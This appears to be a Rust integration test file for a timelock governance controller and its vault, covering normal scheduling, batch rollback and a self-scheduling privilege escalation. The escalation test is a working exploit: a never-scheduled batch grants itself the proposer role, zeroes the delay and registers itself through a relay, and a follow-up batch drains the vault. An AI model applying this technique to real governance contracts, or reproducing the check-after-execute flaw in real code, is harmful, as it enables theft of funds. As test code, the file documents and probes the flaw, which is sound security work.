// Governance Integration Tests
//
// Cross-module flows for the timelock controller and its administered
// vault:
// - the legitimate propose -> wait -> execute path
// - atomicity of batches that touch both the engine and a target
// - the self-referential scheduling escalation: a batch that grants
//   itself the proposer role, zeroes the delay and registers its own
//   identifier from inside its execution

#[cfg(test)]
mod tests {
    use std::any::Any;

    use crate::config::DEFAULT_MIN_DELAY;
    use crate::crypto::{hash, Address, Hash};
    use crate::governance::{
        AdministeredTarget, Call, CallBatch, EngineAction, OperationState, RuntimeContext,
        Timelock, TimelockError, TimelockResult, PROPOSER_ROLE,
    };
    use crate::serializer::Serializer;
    use crate::vault::{Vault, VaultAction};

    // ========== Helper Functions ==========

    fn test_address(seed: u8) -> Address {
        let mut bytes = [0u8; 32];
        bytes[0] = seed;
        Address::new(bytes)
    }

    const ENGINE: u8 = 0xee;
    const ADMIN: u8 = 0x01;
    const PROPOSER: u8 = 0x02;
    const ATTACKER: u8 = 0x06;
    const VAULT: u8 = 0xaa;
    const RELAY: u8 = 0x66;

    /// Deploy a controller owning a funded vault, the way the scenario
    /// wires them: the vault's owner is the engine's address.
    fn deploy() -> (Timelock, Hash) {
        let mut timelock = Timelock::new(
            test_address(ENGINE),
            test_address(ADMIN),
            &[test_address(PROPOSER)],
            DEFAULT_MIN_DELAY,
        )
        .unwrap();

        let token = hash(b"token");
        let mut vault = Vault::new(test_address(VAULT), test_address(ENGINE), hash(b"vault-v1"));
        vault.deposit(token.clone(), 10_000_000).unwrap();
        timelock.register_target(test_address(VAULT), Box::new(vault));

        (timelock, token)
    }

    fn vault_of(timelock: &Timelock) -> &Vault {
        timelock
            .target(&test_address(VAULT))
            .unwrap()
            .as_any()
            .downcast_ref::<Vault>()
            .unwrap()
    }

    fn withdraw_call(token: &Hash, recipient: u8) -> Call {
        let action = VaultAction::Withdraw {
            asset: token.clone(),
            recipient: test_address(recipient),
        };
        Call::new(test_address(VAULT), 0, action.to_bytes())
    }

    fn grant_proposer_call(account: u8) -> Call {
        let action = EngineAction::GrantRole {
            role: PROPOSER_ROLE,
            account: test_address(account),
        };
        Call::new(test_address(ENGINE), 0, action.to_bytes())
    }

    fn update_delay_call(delay: u64) -> Call {
        let action = EngineAction::UpdateDelay { delay };
        Call::new(test_address(ENGINE), 0, action.to_bytes())
    }

    /// Capability that, when invoked, schedules its stored batch with
    /// its own identity as the caller. This is the indirection any
    /// self-registering batch needs: a batch cannot literally embed a
    /// schedule of itself, because the payload would have to contain
    /// its own hash preimage.
    #[derive(Clone)]
    struct ScheduleRelay {
        address: Address,
        batch: CallBatch,
    }

    impl AdministeredTarget for ScheduleRelay {
        fn invoke(
            &mut self,
            engine: &mut Timelock,
            ctx: &RuntimeContext,
            _value: u64,
            _payload: &[u8],
        ) -> TimelockResult<()> {
            let relay_ctx = RuntimeContext::account(self.address.clone(), ctx.timestamp);
            engine.schedule_batch(&relay_ctx, &self.batch).map(|_| ())
        }

        fn clone_box(&self) -> Box<dyn AdministeredTarget> {
            Box::new(self.clone())
        }

        fn as_any(&self) -> &dyn Any {
            self
        }
    }

    // ========== Legitimate Governance Path ==========

    #[test]
    fn test_propose_wait_execute() {
        let (mut timelock, token) = deploy();
        let treasury = 0x33;

        let batch =
            CallBatch::from_calls(vec![withdraw_call(&token, treasury)], Hash::zero()).unwrap();
        let id = batch.operation_id();

        let now = 10_000;
        timelock
            .schedule_batch(&RuntimeContext::account(test_address(PROPOSER), now), &batch)
            .unwrap();
        assert_eq!(timelock.operation_state(&id), OperationState::Scheduled);

        // Too early, from anyone
        assert_eq!(
            timelock.execute_batch(
                &RuntimeContext::account(test_address(0x99), now + DEFAULT_MIN_DELAY - 1),
                &batch,
            ),
            Err(TimelockError::NotReady)
        );
        assert_eq!(vault_of(&timelock).balance(&token), 10_000_000);

        // On time, from anyone
        timelock
            .execute_batch(
                &RuntimeContext::account(test_address(0x99), now + DEFAULT_MIN_DELAY),
                &batch,
            )
            .unwrap();
        assert_eq!(timelock.operation_state(&id), OperationState::Executed);
        assert_eq!(vault_of(&timelock).balance(&token), 0);
        assert_eq!(
            vault_of(&timelock).balance_of(&test_address(treasury), &token),
            10_000_000
        );
    }

    #[test]
    fn test_direct_vault_access_denied() {
        let (mut timelock, token) = deploy();

        // The withdraw dispatched mid-batch does succeed (the engine
        // presents the owner identity), but the batch was never
        // scheduled, so the readiness check sinks the unit of work and
        // the withdraw is rolled back with it.
        let call = withdraw_call(&token, ATTACKER);
        let batch = CallBatch::from_calls(vec![call], Hash::zero()).unwrap();
        let result = timelock.execute_batch(
            &RuntimeContext::account(test_address(ATTACKER), 10_000),
            &batch,
        );
        assert_eq!(result, Err(TimelockError::NotReady));
        assert_eq!(vault_of(&timelock).balance(&token), 10_000_000);
        assert_eq!(
            vault_of(&timelock).balance_of(&test_address(ATTACKER), &token),
            0
        );
    }

    // ========== Atomicity Across Engine and Targets ==========

    #[test]
    fn test_failed_batch_restores_vault_and_roles() {
        let (mut timelock, token) = deploy();

        // Withdraw succeeds, role grant succeeds, then the last call
        // hits an unregistered capability and sinks the whole batch.
        let batch = CallBatch::from_calls(
            vec![
                withdraw_call(&token, 0x33),
                grant_proposer_call(0x33),
                Call::new(test_address(0xdd), 0, vec![]),
            ],
            Hash::zero(),
        )
        .unwrap();
        let id = batch.operation_id();

        let now = 10_000;
        timelock
            .schedule_batch(&RuntimeContext::account(test_address(PROPOSER), now), &batch)
            .unwrap();

        let result = timelock.execute_batch(
            &RuntimeContext::account(test_address(0x99), now + DEFAULT_MIN_DELAY),
            &batch,
        );
        assert_eq!(
            result,
            Err(TimelockError::CallFailed {
                index: 2,
                source: Box::new(TimelockError::UnknownTarget(test_address(0xdd))),
            })
        );

        // Nothing from the earlier calls survived
        assert_eq!(vault_of(&timelock).balance(&token), 10_000_000);
        assert_eq!(
            vault_of(&timelock).balance_of(&test_address(0x33), &token),
            0
        );
        assert!(!timelock.has_role(&PROPOSER_ROLE, &test_address(0x33)));
        assert_eq!(timelock.operation_state(&id), OperationState::Scheduled);
    }

    // ========== Self-Referential Scheduling Escalation ==========

    #[test]
    fn test_self_scheduling_batch_executes_without_prior_schedule() {
        let (mut timelock, token) = deploy();

        // The attacker holds no roles at deployment
        assert!(!timelock.has_role(&PROPOSER_ROLE, &test_address(ATTACKER)));

        // Batch B1: grant the proposer role to the attacker and to the
        // relay, zero the delay, then have the relay register B1 itself.
        let b1 = CallBatch::from_calls(
            vec![
                grant_proposer_call(ATTACKER),
                grant_proposer_call(RELAY),
                update_delay_call(0),
                Call::new(test_address(RELAY), 0, vec![]),
            ],
            Hash::zero(),
        )
        .unwrap();
        let b1_id = b1.operation_id();

        // The attacker deploys the relay capability pointing back at B1
        timelock.register_target(
            test_address(RELAY),
            Box::new(ScheduleRelay {
                address: test_address(RELAY),
                batch: b1.clone(),
            }),
        );

        // B1 was never scheduled by any proposer
        assert_eq!(timelock.operation_state(&b1_id), OperationState::Unknown);

        // Yet executing it succeeds: by the time the readiness check
        // runs, the batch's own calls have granted the roles, zeroed
        // the delay and scheduled the identifier with a ready time of
        // "now".
        let now = 10_000;
        timelock
            .execute_batch(&RuntimeContext::account(test_address(ATTACKER), now), &b1)
            .unwrap();

        assert_eq!(timelock.operation_state(&b1_id), OperationState::Executed);
        assert!(timelock.has_role(&PROPOSER_ROLE, &test_address(ATTACKER)));
        assert_eq!(timelock.get_delay(), 0);

        // With the proposer role and a zero delay, the attacker drains
        // the vault through a second, immediately-executable batch.
        let b2 = CallBatch::from_calls(
            vec![
                Call::new(
                    test_address(VAULT),
                    0,
                    VaultAction::UpgradeImplementation {
                        code: hash(b"vault-v2"),
                    }
                    .to_bytes(),
                ),
                withdraw_call(&token, ATTACKER),
            ],
            Hash::max(),
        )
        .unwrap();

        let later = now + 1;
        timelock
            .schedule_batch(&RuntimeContext::account(test_address(ATTACKER), later), &b2)
            .unwrap();
        timelock
            .execute_batch(&RuntimeContext::account(test_address(ATTACKER), later), &b2)
            .unwrap();

        let vault = vault_of(&timelock);
        assert_eq!(vault.balance(&token), 0);
        assert_eq!(
            vault.balance_of(&test_address(ATTACKER), &token),
            10_000_000
        );
        assert_eq!(vault.implementation(), &hash(b"vault-v2"));
    }

    #[test]
    fn test_relay_without_delay_update_stays_locked() {
        let (mut timelock, _token) = deploy();

        // Same shape as the escalation, but without zeroing the delay:
        // the relay schedules the batch with the one-hour delay still in
        // force, so the post-call readiness check fails and everything
        // rolls back.
        let b1 = CallBatch::from_calls(
            vec![
                grant_proposer_call(ATTACKER),
                grant_proposer_call(RELAY),
                Call::new(test_address(RELAY), 0, vec![]),
            ],
            Hash::zero(),
        )
        .unwrap();
        let b1_id = b1.operation_id();

        timelock.register_target(
            test_address(RELAY),
            Box::new(ScheduleRelay {
                address: test_address(RELAY),
                batch: b1.clone(),
            }),
        );

        let result = timelock.execute_batch(
            &RuntimeContext::account(test_address(ATTACKER), 10_000),
            &b1,
        );
        assert_eq!(result, Err(TimelockError::NotReady));

        assert_eq!(timelock.operation_state(&b1_id), OperationState::Unknown);
        assert!(!timelock.has_role(&PROPOSER_ROLE, &test_address(ATTACKER)));
        assert_eq!(timelock.get_delay(), DEFAULT_MIN_DELAY);
    }
}
